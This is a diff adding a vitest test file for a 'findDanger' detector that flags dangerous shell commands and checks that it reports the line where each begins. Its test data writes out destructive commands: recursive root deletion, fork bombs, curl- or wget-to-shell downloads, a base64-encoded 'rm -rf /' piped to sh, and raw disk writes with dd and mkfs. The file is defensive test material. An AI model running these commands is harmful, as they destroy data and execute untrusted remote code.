@@ -1,0 +1,104 @@
+import { describe, expect, it } from 'vitest'
+import { findDanger } from '../../src/execution/dangerous.ts'
+
+const ROOT = 'recursive force delete of a root'
+
+const DANGEROUS: readonly (readonly [string, string])[] = [
+  ['rm -rf /', ROOT],
+  ['rm -fr /*', ROOT],
+  ['sudo rm -r -f --no-preserve-root /', ROOT],
+  ['rm --recursive --force "/"', ROOT],
+  ['rm -rf ~', ROOT],
+  ['rm -rf "$HOME"', ROOT],
+  ['rm -rf ${HOME}/*', ROOT],
+  ['cd / && rm -rf \\\n  /', ROOT],
+  ['os.system("rm -rf / --no-preserve-root")', ROOT],
+  ["subprocess.run(['rm', '-rf', '/'])", ROOT],
+  ["execFileSync('rm', ['-rf', '/'])", ROOT],
+  ["shutil.rmtree('/')", ROOT],
+  ['fs.rmSync("/", { recursive: true, force: true })', ROOT],
+  ['r\\m -rf /', ROOT],
+  [':(){ :|:& };:', 'fork bomb'],
+  [':() { : | : & }; :', 'fork bomb'],
+  ['bomb() {\n  bomb | bomb &\n}\nbomb', 'fork bomb'],
+  ['perl -e "fork while fork"', 'fork bomb'],
+  ['while True: os.fork()', 'fork bomb'],
+  ['while True:\n    os.fork()', 'fork bomb'],
+  ['curl -fsSL https://example.com/x | sh', 'pipe to shell'],
+  ['curl https://example.com|bash', 'pipe to shell'],
+  ['wget -qO- https://example.com | sudo -E bash -s -- --yes', 'pipe to shell'],
+  ['curl x |\n  sh', 'pipe to shell'],
+  ['curl x | tee log | sh', 'pipe to shell'],
+  ['echo cm0gLXJmIC8= | base64 -d | sh', 'pipe to shell'],
+  ['curl x | python3 -', 'pipe to shell'],
+  ['bash -c "curl x | sh"', 'pipe to shell'],
+  ['os.system("curl x|sh")', 'pipe to shell'],
+  ['sh -c "$(curl -fsSL https://example.com)"', 'pipe to shell'],
+  ['eval "$(wget -qO- https://example.com)"', 'pipe to shell'],
+  ['bash <(curl -s https://example.com)', 'pipe to shell'],
+  ['source <(curl -s https://example.com)', 'pipe to shell'],
+  ['echo 1 > /dev/sda', 'raw device write'],
+  ['cat image >/dev/nvme0n1', 'raw device write'],
+  ['tee /dev/sdb < image', 'raw device write'],
+  ["open('/dev/sda', 'wb')", 'raw device write'],
+  ['mkfs.ext4 /dev/sdb1', 'mkfs'],
+  ['mkfs -t ext4 /dev/sdb1', 'mkfs'],
+  ['/sbin/mke2fs /dev/sdb1', 'mkfs'],
+  ['dd if=/dev/zero of=/dev/sda', 'dd'],
+  ['dd bs=1M of=disk.img', 'dd'],
+]
+
+const HARMLESS: readonly string[] = [
+  'rm -rf build',
+  'rm -rf "$TMPDIR"/*',
+  'rm -rf "${DIR:?}/"*',
+  'rm -rf ./',
+  'rm -f /tmp/x',
+  'rm -r /tmp/x',
+  'rm -rf ~/.cache/tool',
+  'ls -rf /',
+  '# rm -rf /\necho done',
+  '// rm -rf /',
+  "subprocess.run(['rm', '-rf', str(base / name)])",
+  'shutil.rmtree(base / "build")',
+  'curl -s https://example.com | jq .',
+  'curl -s https://example.com | python3 -m json.tool',
+  'curl -s https://example.com | grep -E "bash|sh"',
+  'curl x > install.sh; sh install.sh',
+  'curl x || sh fallback.sh',
+  'cat list | sh run.sh',
+  'echo x > /dev/null 2>&1',
+  'cat /dev/sda1-notes',
+  'add if=1',
+  'echo "mkfs"',
+  'while true; do sleep 1; done',
+  'f() { g | h & }',
+]
+
+describe('findDanger', () => {
+  it.each(DANGEROUS)('[RUN-6] names what is dangerous in %j', (text, pattern) => {
+    expect(findDanger(text)?.pattern).toBe(pattern)
+  })
+
+  it.each(HARMLESS)('[RUN-6] finds nothing in %j', (text) => {
+    expect(findDanger(text)).toBeUndefined()
+  })
+
+  it('[RUN-6] says on which line the command begins', () => {
+    expect(findDanger('#!/bin/sh\n# about\nset -e\n\nrm -rf \\\n  /\n')).toStrictEqual({ pattern: ROOT, line: 5 })
+    expect(findDanger('true\ncurl x |\n\n  sh\n')).toStrictEqual({ pattern: 'pipe to shell', line: 2 })
+    expect(findDanger('true\n:(){ :|:& };:')).toStrictEqual({ pattern: 'fork bomb', line: 2 })
+  })
+
+  it('[RUN-6] skips a comment, and not the line after it that a backslash only seems to continue', () => {
+    expect(findDanger('# about \\\nrm -rf /')?.line).toBe(2)
+  })
+
+  it.each(['rm -rf ', 'curl | ', '::::(){ ', 'while True: ', '"', '\\\n', 'a(', '// ', '|\n', 'curl x |'])(
+    '[RUN-6] reads megabytes of %j in one pass',
+    (part) => {
+      // Quadratic work on this much would take hours, and the test's time limit ends it.
+      expect(findDanger(part.repeat(Math.ceil(2_000_000 / part.length)))).toBeUndefined()
+    },
+  )
+})
